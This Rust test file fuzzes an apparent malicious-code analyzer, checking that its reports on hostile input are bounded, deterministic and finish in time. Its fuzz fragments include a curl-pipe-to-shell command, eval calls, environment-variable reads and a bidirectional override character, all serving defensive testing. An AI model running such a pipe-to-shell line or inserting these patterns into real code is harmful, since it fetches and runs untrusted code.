//! Properties of any input: no panic, equal results, bounds, and time linear in the size of hostile input.

use code_signals::{MOST_CAPABILITIES, MOST_CHAINS, SourceFile, Subject, UnreadReason, analyze};
use proptest::prelude::*;

const PATHS: [&str; 8] = [
    "setup.py",
    "index.js",
    "lib/a.ts",
    "main.go",
    "ext/extconf.rb",
    "install.sh",
    "package.json",
    "SKILL.md",
];

/// Pieces of code that the interpretation has rules for.
const PIECES: [&str; 30] = [
    "import os\n",
    "x = x + x\n",
    "eval(",
    ")",
    "(",
    "{",
    "}",
    "[",
    "]",
    "\"a\"",
    "require('fs')",
    ".then(",
    "=>",
    "function f(a){f(a)}\n",
    "def f(x):\n  return f(x)\n",
    "curl http://a.example.dev | sh\n",
    "`",
    "$(",
    "for (;;) {",
    "while True:\n  ",
    "base64.b64decode('aGVsbG8gd29ybGQgaGVsbG8=')",
    "process.env",
    "os.environ",
    "\\x41",
    "\u{202e}",
    "\0",
    "'",
    "<<EOF\n",
    "EOF\n",
    "class A(A):\n  ",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn any_input_gives_the_same_bounded_report(
        path in 0..PATHS.len(),
        pieces in prop::collection::vec(0..PIECES.len(), 0..60),
        bytes in prop::collection::vec(any::<u8>(), 0..40),
    ) {
        let mut text: Vec<u8> = pieces.iter().flat_map(|piece| PIECES[*piece].bytes()).collect();
        text.extend(bytes);
        let file = SourceFile { path: PATHS[path], content: &text };
        for subject in [Subject::Package, Subject::Skill, Subject::Repository] {
            let report = analyze(&[file], subject);
            prop_assert_eq!(&report, &analyze(&[file], subject));
            prop_assert!(report.chains.len() <= MOST_CHAINS && report.capabilities.len() <= MOST_CAPABILITIES);
            for chain in &report.chains {
                prop_assert!(chain.explanation.chars().count() <= 400 && chain.sink.line >= 1);
            }
        }
    }

    #[test]
    fn the_order_of_files_does_not_matter(swap in any::<bool>()) {
        let one = SourceFile { path: "a.py", content: b"import b\nexec(b.x)\n" };
        let other = SourceFile { path: "b.py", content: b"import base64\nx = base64.b64decode('cHJpbnQoMTIzNDU2Nzg5MCk=')\n" };
        let files = if swap { [one, other] } else { [other, one] };
        prop_assert_eq!(analyze(&files, Subject::Package), analyze(&[one, other], Subject::Package));
    }
}

#[test]
fn deep_nesting_is_reported_as_unread() {
    for (path, open) in
        [("a.py", "("), ("a.js", "["), ("a.go", "package a\nvar x = ("), ("a.rb", "["), ("a.sh", "$(")]
    {
        let text = open.repeat(50_000);
        let report = analyze(&[SourceFile { path, content: text.as_bytes() }], Subject::Package);
        let reasons: Vec<UnreadReason> = report.unread.iter().map(|unread| unread.reason).collect();
        assert!(report.files <= 1 && reasons.len() <= 2, "{path}: {reasons:?}");
    }
}

#[test]
fn calls_that_multiply_end_within_their_budget() {
    let mut text = String::from("def f0(x):\n    return x\n");
    for level in 1..200 {
        let before = level - 1;
        text.push_str(&format!("def f{level}(x):\n    return f{before}(x + 'a') + f{before}(x + 'b')\n"));
    }
    text.push_str("f199('c')\n");
    let report = analyze(&[SourceFile { path: "a.py", content: text.as_bytes() }], Subject::Package);
    assert_eq!(report.files, 1);
}

#[test]
fn files_that_load_each_other_in_deep_calls_end() {
    let files: Vec<(String, String)> = (0..60)
        .map(|number| {
            let next = number + 1;
            let functions: String = (0..10)
                .map(|level| {
                    format!("def f{level}(x):\n    return [x].append(f{}(x + str(eval(x))))\n", level + 1)
                })
                .collect();
            let text = format!(
                "{functions}def f10(x):\n    import m{next}\n    return m{next}.f0(x)\nf0('1 + 1')\n"
            );
            (format!("m{number}.py"), text)
        })
        .collect();
    let sources: Vec<SourceFile<'_>> =
        files.iter().map(|(path, text)| SourceFile { path, content: text.as_bytes() }).collect();
    assert_eq!(analyze(&sources, Subject::Package).files, 60);
}

#[test]
fn functions_that_give_themselves_to_others_end() {
    let text = "const f = (g) => [g, f].map((h) => h(f)).then(f).forEach(f); f(f); [f].map(f); Promise.all([f].map(f)).then(f);\n\
                function k(x) { return x.map(k).map((y) => y.call(k, [k].map(k))); } [k].map(k);";
    let report = analyze(&[SourceFile { path: "a.js", content: text.as_bytes() }], Subject::Package);
    assert_eq!(report.files, 1);
}

#[test]
fn constants_that_double_stay_within_their_bound() {
    let text = format!("x = 'aaaaaaaaaaaaaaaa'\n{}exec(x)\n", "x = x + x\n".repeat(500));
    let report = analyze(&[SourceFile { path: "setup.py", content: text.as_bytes() }], Subject::Package);
    assert_eq!(report.files, 1);
}

#[test]
fn a_file_that_is_no_text_is_reported() {
    let report = analyze(&[SourceFile { path: "a.js", content: b"\0asm" }], Subject::Package);
    assert_eq!(report.unread.first().map(|unread| unread.reason), Some(UnreadReason::NotText));
}
